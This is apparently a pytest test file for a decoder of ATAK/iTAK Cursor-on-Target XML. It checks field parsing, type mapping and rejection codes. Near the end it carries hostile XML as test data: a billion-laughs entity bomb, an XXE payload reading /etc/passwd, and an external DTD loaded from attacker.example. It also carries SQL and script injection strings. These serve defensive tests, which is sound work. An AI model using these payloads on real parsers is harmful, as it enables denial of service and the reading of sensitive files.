"""CoT decoding: real ATAK/iTAK captures, the type mapping, and hostile XML."""

from __future__ import annotations

import xml.etree.ElementTree as ET
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from concord.domain.marking import Marking, Tlp
from concord.domain.observation import SensorKind, TargetKind
from concord.ingest.base import TimeWindow
from concord.ingest.cot import CotDecoder, build_pong, format_cot_time, parse_cot_time, target_kind_for

DATA = Path(__file__).resolve().parents[2] / "data" / "cot"
PLI_TIME = datetime(2021, 2, 27, 20, 32, 24, 771000, tzinfo=UTC)


def _event(
    *,
    uid: str = "ANDROID-1",
    cot_type: str = "a-f-G-U-C",
    time: str = "2026-03-01T12:00:00Z",
    lat: str = "41.5",
    lon: str = "20.1",
    detail: str = "",
) -> bytes:
    return (
        f'<event version="2.0" uid="{uid}" type="{cot_type}" how="m-g" time="{time}" start="{time}" '
        f'stale="{time}"><point lat="{lat}" lon="{lon}" hae="12.5" ce="8.0" le="9999999.0"/>'
        f"<detail>{detail}</detail></event>"
    ).encode()


NOW = datetime(2026, 3, 1, 12, 0, 30, tzinfo=UTC)


@pytest.fixture
def decoder() -> CotDecoder:
    return CotDecoder("BP")


def test_atak_position_report_decodes_every_field() -> None:
    decoder = CotDecoder("BP")
    result = decoder.decode((DATA / "atak_pli.xml").read_bytes(), received_at=PLI_TIME + timedelta(seconds=5))
    assert result.rejections == ()
    (obs,) = result.observations
    assert obs.identity == "tak:ANDROID-deadbeef"
    assert obs.sensor is SensorKind.TAK
    assert obs.target is TargetKind.UNIT
    assert obs.source == "cot:BP"
    assert obs.agency == "BP"
    assert obs.marking == Marking.default_for("BP")
    assert obs.observed_at == PLI_TIME
    assert obs.lat == pytest.approx(1.234567)
    assert obs.lon == pytest.approx(-3.141592)
    assert obs.hae_m == pytest.approx(-25.7)
    assert obs.position_sigma_m == pytest.approx(9.9)
    assert obs.callsign == "JENNY"
    assert obs.course_deg == pytest.approx(80.24833892285461)
    assert obs.speed_mps == 0.0
    assert obs.attributes["group"] == "Cyan"
    assert obs.attributes["role"] == "Team Member"
    assert obs.attributes["how"] == "m-g"
    assert obs.attributes["cot_type"] == "a-f-G-U-C"
    assert obs.attributes["stale"] == "2021-02-27T20:38:39.771000+00:00"
    assert obs.attributes["start"] == "2021-02-27T20:32:24.771000+00:00"
    assert "le_m" not in obs.attributes  # le="9999999.0": unknown


def test_itak_vehicle_with_unknown_errors_uses_default_sigma() -> None:
    decoder = CotDecoder("CUS", window=TimeWindow.unbounded(), unknown_ce_sigma_m=75.0)
    (obs,) = decoder.decode((DATA / "itak_pli_vehicle.xml").read_bytes(), received_at=NOW).observations
    assert obs.target is TargetKind.VEHICLE
    assert obs.identity == "tak:C94B9215-9BD4-4DBE-BDE1-83625F09153F"
    assert obs.callsign == "DFPC-iSchmidt"
    assert obs.position_sigma_m == 75.0  # ce="9999999" means unknown
    assert obs.hae_m == pytest.approx(1681.23725821)
    assert obs.course_deg == pytest.approx(137.23542786)
    assert obs.attributes["group"] == "Yellow"
    assert obs.observed_at == datetime(2023, 7, 18, 15, 23, 9, tzinfo=UTC)


def test_itak_negative_speed_means_unknown() -> None:
    decoder = CotDecoder("CUS", window=TimeWindow.unbounded())
    (obs,) = decoder.decode((DATA / "itak_pli_unknown_speed.xml").read_bytes(), received_at=NOW).observations
    assert obs.speed_mps is None
    assert obs.course_deg == 0.0
    assert obs.callsign == "Papa Uniform"
    assert obs.lat == pytest.approx(40.41592833093477)


def test_geochat_becomes_a_chat_message_not_an_observation() -> None:
    decoder = CotDecoder("BP", Marking(classification="RESTRICTED", originator="BP", tlp=Tlp.GREEN))
    received = datetime(2021, 2, 23, 22, 28, 30, tzinfo=UTC)
    result = decoder.decode((DATA / "atak_geochat.xml").read_bytes(), received_at=received)
    assert result.observations == ()
    (chat,) = result.chats
    assert chat.chatroom == "JOKER MAN"
    assert chat.sender_callsign == "JENNY"
    assert chat.sender_uid == "ANDROID-deadbeef"
    assert chat.text == "test"
    assert chat.chat_id == "ANDROID-cafebabe"
    assert chat.sent_at == datetime(2021, 2, 23, 22, 28, 22, 191000, tzinfo=UTC)
    assert chat.marking.tlp is Tlp.GREEN
    assert type(chat).from_dict(chat.to_dict()) == chat


def test_ping_is_reported_and_pong_is_a_valid_reply() -> None:
    decoder = CotDecoder("BP")
    result = decoder.decode((DATA / "atak_ping.xml").read_bytes(), received_at=NOW)
    (ping,) = result.pings
    assert ping.uid == "ANDROID-82cd68af1fb8fd80-ping"
    assert ping.sent_at == datetime(2023, 2, 9, 5, 34, 7, 851000, tzinfo=UTC)
    assert result.observations == () and result.rejections == ()
    pong = ET.fromstring(build_pong(now=NOW))
    assert pong.get("type") == "t-x-c-t-r"
    assert pong.get("time") == "2026-03-01T12:00:30.000Z"
    assert pong.get("stale") == "2026-03-01T12:00:50.000Z"
    assert pong.find("point") is not None


@pytest.mark.parametrize(
    ("cot_type", "kind"),
    [
        ("a-f-G-U-C", TargetKind.UNIT),
        ("a-a-G-U-C-I", TargetKind.UNIT),
        ("a-h-G-U-C-I", TargetKind.PERSON),
        ("a-h-G-U-C-A", TargetKind.UNKNOWN),
        ("a-f-G-E-V-C", TargetKind.VEHICLE),
        ("a-u-G-E-V", TargetKind.VEHICLE),
        ("a-n-S", TargetKind.VESSEL),
        ("a-u-S-X-M", TargetKind.VESSEL),
        ("a-u-S-X-R", TargetKind.BOAT),
        ("a-h-U", TargetKind.VESSEL),
        ("a-f-A", TargetKind.AIRCRAFT),
        ("a-h-A-M-F-Q", TargetKind.AIRCRAFT),
        ("a-u-G", TargetKind.UNKNOWN),
        ("b-m-p-s-p-i", TargetKind.UNKNOWN),
        ("a", TargetKind.UNKNOWN),
    ],
)
def test_type_atoms_map_to_target_kinds(cot_type: str, kind: TargetKind) -> None:
    assert target_kind_for(cot_type) is kind


def test_times_with_offsets_and_long_fractions_parse() -> None:
    assert parse_cot_time("2026-03-01T13:00:00.123456789+01:00") == datetime(
        2026, 3, 1, 12, 0, 0, 123456, tzinfo=UTC
    )
    assert parse_cot_time("2026-03-01T12:00:00") == datetime(2026, 3, 1, 12, tzinfo=UTC)
    assert format_cot_time(datetime(2026, 3, 1, 12, 0, 0, 123456, tzinfo=UTC)) == "2026-03-01T12:00:00.123Z"
    with pytest.raises(ValueError):
        parse_cot_time("yesterday")


@pytest.mark.parametrize(
    ("kwargs", "code"),
    [
        ({"lat": "91.0"}, "bad-coordinate"),
        ({"lon": "-180.5"}, "bad-coordinate"),
        ({"lat": "NaN"}, "bad-coordinate"),
        ({"lat": "inf"}, "bad-coordinate"),
        ({"lon": "-Infinity"}, "bad-coordinate"),
        ({"lat": "1_0"}, "bad-coordinate"),
        ({"lat": ""}, "bad-coordinate"),
        ({"time": "2026-03-01T12:10:00Z"}, "time-out-of-range"),
        ({"time": "2026-02-01T12:00:00Z"}, "time-out-of-range"),
        ({"time": "2999-01-01T00:00:00Z"}, "time-out-of-range"),
        ({"time": "not a time"}, "bad-value"),
        ({"time": "2026-13-45T99:00:00Z"}, "bad-value"),
        ({"uid": ""}, "missing-field"),
        ({"uid": "x" * 300}, "bad-value"),
        ({"cot_type": "u-d-f"}, "unsupported-type"),
        ({"cot_type": "t-x-c-t-r"}, "unsupported-type"),
    ],
)
def test_bad_events_are_rejected_with_their_code(
    decoder: CotDecoder, kwargs: dict[str, str], code: str
) -> None:
    result = decoder.decode(_event(**kwargs), received_at=NOW)
    assert result.observations == ()
    assert [r.code for r in result.rejections] == [code]
    assert result.rejections[0].offset == 0 and result.rejections[0].line == 1


def test_event_without_point_or_time_is_missing_fields(decoder: CotDecoder) -> None:
    no_point = b'<event uid="u" type="a-f-G" time="2026-03-01T12:00:00Z"><detail/></event>'
    no_time = b'<event uid="u" type="a-f-G"><point lat="1" lon="2"/></event>'
    no_type = b'<event uid="u" time="2026-03-01T12:00:00Z"><point lat="1" lon="2"/></event>'
    assert decoder.decode(no_point, received_at=NOW).rejections[0].code == "missing-field"
    assert decoder.decode(no_time, received_at=NOW).rejections[0].code == "missing-field"
    assert decoder.decode(no_type, received_at=NOW).rejections[0].code == "missing-field"


def test_garbage_optional_numbers_are_dropped_not_trusted(decoder: CotDecoder) -> None:
    data = _event(detail='<track course="NaN" speed="-inf"/>').replace(b'ce="8.0"', b'ce="-3"')
    (obs,) = decoder.decode(data, received_at=NOW).observations
    assert obs.course_deg is None and obs.speed_mps is None
    assert obs.position_sigma_m == decoder.unknown_ce_sigma_m


def test_course_is_normalised_into_a_circle(decoder: CotDecoder) -> None:
    data = _event(detail='<track course="-90" speed="3"/>').replace(b'le="9999999.0"', b'le="4.5"')
    (obs,) = decoder.decode(data, received_at=NOW).observations
    assert obs.attributes["le_m"] == 4.5
    assert obs.course_deg == 270.0
    assert obs.speed_mps == 3.0


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<event uid="&lol9;" type="a-f-G" time="2026-03-01T12:00:00Z"><point lat="1" lon="2"/></event>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE event [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<event uid="u" type="a-f-G" time="2026-03-01T12:00:00Z"><point lat="1" lon="2"/>
<detail><remarks>&xxe;</remarks></detail></event>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE event SYSTEM "http://attacker.example/evil.dtd">
<event uid="u" type="a-f-G" time="2026-03-01T12:00:00Z"><point lat="1" lon="2"/></event>"""


@pytest.mark.parametrize("payload", [BILLION_LAUGHS, XXE, EXTERNAL_DTD], ids=["laughs", "xxe", "dtd"])
def test_entities_and_dtds_are_forbidden_in_a_single_document(decoder: CotDecoder, payload: bytes) -> None:
    result = decoder.decode_event(payload, received_at=NOW)
    assert [r.code for r in result.rejections] == ["entity-forbidden"]
    assert result.observations == ()


@pytest.mark.parametrize("payload", [BILLION_LAUGHS, XXE, EXTERNAL_DTD], ids=["laughs", "xxe", "dtd"])
def test_entities_and_dtds_are_forbidden_in_a_stream(decoder: CotDecoder, payload: bytes) -> None:
    result = decoder.decode(payload, received_at=NOW)
    assert "entity-forbidden" in [r.code for r in result.rejections]
    assert result.observations == ()
    assert b"root:" not in repr(result).encode()


def test_undeclared_entity_reference_is_forbidden(decoder: CotDecoder) -> None:
    result = decoder.decode(_event(detail="<remarks>&xxe;</remarks>"), received_at=NOW)
    assert [r.code for r in result.rejections] == ["entity-forbidden"]


@pytest.mark.parametrize(
    "payload",
    [
        b'<event uid="u" type="a-f-G" time="2026-03-01T12:00:00Z"><point lat="1" lon="2"/>',
        b'<event uid="u" type="a-f-G" time="2026-03-01T12:00:00Z"><point lat="1" lon="2"></event>',
        b"<event><<<>>></event>",
        b'<event uid="u" type="a-f-G" time="2026-03-01T12:00:00Z" uid="v"></event>',
    ],
    ids=["truncated", "unclosed-child", "garbage", "duplicate-attribute"],
)
def test_malformed_xml_is_rejected(decoder: CotDecoder, payload: bytes) -> None:
    result = decoder.decode(payload, received_at=NOW)
    assert [r.code for r in result.rejections] == ["malformed-xml"]


def test_non_event_root_is_rejected(decoder: CotDecoder) -> None:
    assert decoder.decode_event(b"<detail/>", received_at=NOW).rejections[0].code == "malformed-xml"


def test_oversized_single_event_is_rejected() -> None:
    decoder = CotDecoder("BP", max_event_bytes=1024)
    big = _event(detail="<remarks>" + "a" * 2000 + "</remarks>")
    assert decoder.decode_event(big, received_at=NOW).rejections[0].code == "oversized"
    assert decoder.decode(big, received_at=NOW).rejections[0].code == "oversized"


def test_injection_strings_pass_through_as_plain_text(decoder: CotDecoder) -> None:
    nasty = "Robert'); DROP TABLE observations;-- &lt;script&gt;alert(1)&lt;/script&gt;"
    data = _event(
        uid="x' OR '1'='1",
        detail=f'<contact callsign="{nasty}"/><remarks>{nasty}</remarks>',
    )
    (obs,) = decoder.decode(data, received_at=NOW).observations
    expected = "Robert'); DROP TABLE observations;-- <script>alert(1)</script>"
    assert obs.callsign == expected
    assert obs.attributes["remarks"] == expected
    assert obs.identity == "tak:x' OR '1'='1"


def test_several_events_in_one_body_with_declarations_and_line_numbers(decoder: CotDecoder) -> None:
    body = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        + _event(uid="A")
        + b"\n"
        + _event(uid="B", lat="95")
        + b"\n<?xml version='1.0'?>"
        + _event(uid="C")
    )
    result = decoder.decode(body, received_at=NOW)
    assert [o.identity for o in result.observations] == ["tak:A", "tak:C"]
    (bad,) = result.rejections
    assert bad.code == "bad-coordinate" and bad.line == 3
    assert body[bad.offset or 0 :].startswith(b'<event version="2.0" uid="B"')


def test_observation_ids_are_deterministic(decoder: CotDecoder) -> None:
    first = decoder.decode(_event(), received_at=NOW).observations[0]
    again = decoder.decode(_event(), received_at=NOW + timedelta(seconds=1)).observations[0]
    other = decoder.decode(_event(lat="41.6"), received_at=NOW).observations[0]
    assert first.id == again.id != other.id


def test_exercise_flag_and_marking_are_carried() -> None:
    marking = Marking(classification="CONFIDENTIAL", originator="MIL", rel_to=frozenset({"BP"}))
    decoder = CotDecoder("MIL", marking, feed="cot:MIL-drill", exercise=True)
    (obs,) = decoder.decode(_event(), received_at=NOW).observations
    assert obs.exercise is True
    assert obs.marking is marking
    assert obs.source == "cot:MIL-drill"


def test_naive_receive_time_is_refused(decoder: CotDecoder) -> None:
    with pytest.raises(ValueError):
        decoder.decode(_event(), received_at=datetime(2026, 3, 1, 12))
